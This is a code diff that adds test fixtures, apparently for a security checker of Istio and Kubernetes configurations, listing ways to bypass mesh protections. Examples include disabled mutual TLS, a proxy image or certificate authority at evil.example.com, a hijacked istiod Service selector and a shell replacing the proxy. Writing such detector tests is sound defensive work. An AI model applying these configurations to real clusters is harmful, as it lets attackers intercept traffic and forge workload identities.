@@ -531,4 +531,161 @@ export const waysPast: readonly Case[] = [
       },
     }),
   ),
+  // Infrastructure of the mesh.
+  way(
+    "an endpoint without mutual TLS",
+    object("WorkloadEntry", "vm", { spec: { address: "203.0.113.7", labels: { app: "cart" } } }),
+  ),
+  way(
+    "pods to which callers send plaintext",
+    workload("web", { labels: { app: "web", "security.istio.io/tlsMode": "disabled" } }),
+  ),
+  way(
+    "a route of a host that another namespace declares",
+    entry({
+      hosts: ["api.example.com"],
+      resolution: "DNS",
+      ports: [{ number: 443, name: "tls", protocol: "TLS" }],
+    }),
+    entry(
+      {
+        hosts: ["api.example.com"],
+        resolution: "DNS",
+        ports: [{ number: 443, name: "tls", protocol: "TLS" }],
+      },
+      { namespace: "bank" },
+    ),
+    virtualService({ hosts: ["api.example.com"], http: [to("cart")] }),
+  ),
+  way("a patch of the injection webhook", {
+    ...typed("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "istio-sidecar-injector", {
+      webhooks: [
+        { name: "namespace.sidecar-injector.istio.io", namespaceSelector: { matchLabels: { a: "b" } } },
+      ],
+    }),
+    type: "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfigurationPatch",
+  }),
+  way(
+    "another control plane behind istiod's Service",
+    patch("Service", "istiod", { spec: { selector: { app: "evil" } } }, { namespace: "istio-system" }),
+  ),
+  way(
+    "identities that clients write, by annotation",
+    annotated({
+      "proxy.istio.io/config": "{gatewayTopology: {forwardClientCertDetails: ALWAYS_FORWARD_ONLY}}",
+    }),
+  ),
+  way(
+    "identities that clients write, by mesh config",
+    istiod({}, { defaultConfig: { gatewayTopology: { forwardClientCertDetails: "FORWARD_ONLY" } } }),
+  ),
+  way("interfaces of virtual machines", annotated({ "traffic.sidecar.istio.io/kubevirtInterfaces": "eth0" })),
+  way(
+    "an Ingress without TLS",
+    typed("networking.k8s.io/v1", "Ingress", "a", {
+      spec: { ingressClassName: "istio", rules: [{ host: "a.example.com" }] },
+    }),
+  ),
+  way(
+    "every name of a registry at a gateway",
+    virtualService({ hosts: ["*.com"], gateways: ["ingress/public"], http: [to("cart")] }),
+  ),
+  way(
+    "a Gateway for a registry",
+    object("Gateway", "x", {
+      spec: {
+        selector: { istio: "ingress" },
+        servers: [
+          {
+            port: { number: 443, name: "https", protocol: "HTTPS" },
+            hosts: ["*.com"],
+            tls: { mode: "SIMPLE", credentialName: "a" },
+          },
+        ],
+      },
+    }),
+  ),
+  way(
+    "a proxy container of another registry",
+    workload(
+      "web",
+      {},
+      {
+        containers: [
+          { name: "web", image: "registry.example.com/web:1.0.0" },
+          { name: "istio-proxy", image: "evil.example.com/proxyv2:1.31.0" },
+        ],
+      },
+    ),
+  ),
+  way(
+    "a proxy of another CA, by ProxyConfig",
+    object("ProxyConfig", "x", { spec: { environmentVariables: { CA_ADDR: "evil.example.com:15012" } } }),
+  ),
+  way(
+    "a proxy image by ProxyConfig",
+    object("ProxyConfig", "x", { spec: { image: { imageType: "debug" } } }),
+  ),
+  way(
+    "the container of a DaemonSet in the node's network",
+    workload("node", {}, { hostNetwork: true }, { kind: "DaemonSet" }),
+  ),
+  way(
+    "an OpenKruise workload without a sidecar",
+    workload(
+      "clone",
+      { labels: { app: "clone", "sidecar.istio.io/inject": "false" } },
+      {},
+      { kind: "CloneSet" },
+    ),
+  ),
+  way(
+    "an OpenKruise workload that strangers reach",
+    workload("clone", {}, {}, { kind: "CloneSet" }),
+    object("AuthorizationPolicy", "clone", {
+      spec: {
+        selector: { matchLabels: { app: "clone" } },
+        rules: [when("request.headers[cookie]", ["s=*"])],
+      },
+    }),
+  ),
+  way(
+    "a Knative Service that strangers reach",
+    typed("serving.knative.dev/v1", "Service", "fn", { spec: { template: pod("fn") } }),
+    object("AuthorizationPolicy", "fn", {
+      spec: { selector: { matchLabels: { app: "fn" } }, rules: [when("request.headers[cookie]", ["s=*"])] },
+    }),
+  ),
+  way(
+    "two patches that are harmful together",
+    object("DestinationRule", "ext", { spec: { host: "pay.example.com" } }),
+    patch("DestinationRule", "ext", { spec: { host: "cart" } }),
+    { ...patch("DestinationRule", "ext", { spec: { trafficPolicy: { tls: {} } } }), name: "ext2" },
+  ),
+  way(
+    "a program in place of the proxy",
+    workload(
+      "web",
+      {},
+      {
+        containers: [
+          { name: "web", image: "registry.example.com/web:1.0.0" },
+          { name: "istio-proxy", image: "auto", command: ["sh"] },
+        ],
+      },
+    ),
+  ),
+  way(
+    "a CA by the proxy's environment",
+    workload(
+      "web",
+      {},
+      {
+        containers: [
+          { name: "web", image: "registry.example.com/web:1.0.0" },
+          { name: "istio-proxy", image: "auto", env: [{ name: "CA_ADDR", value: "evil.example.com" }] },
+        ],
+      },
+    ),
+  ),
 ];
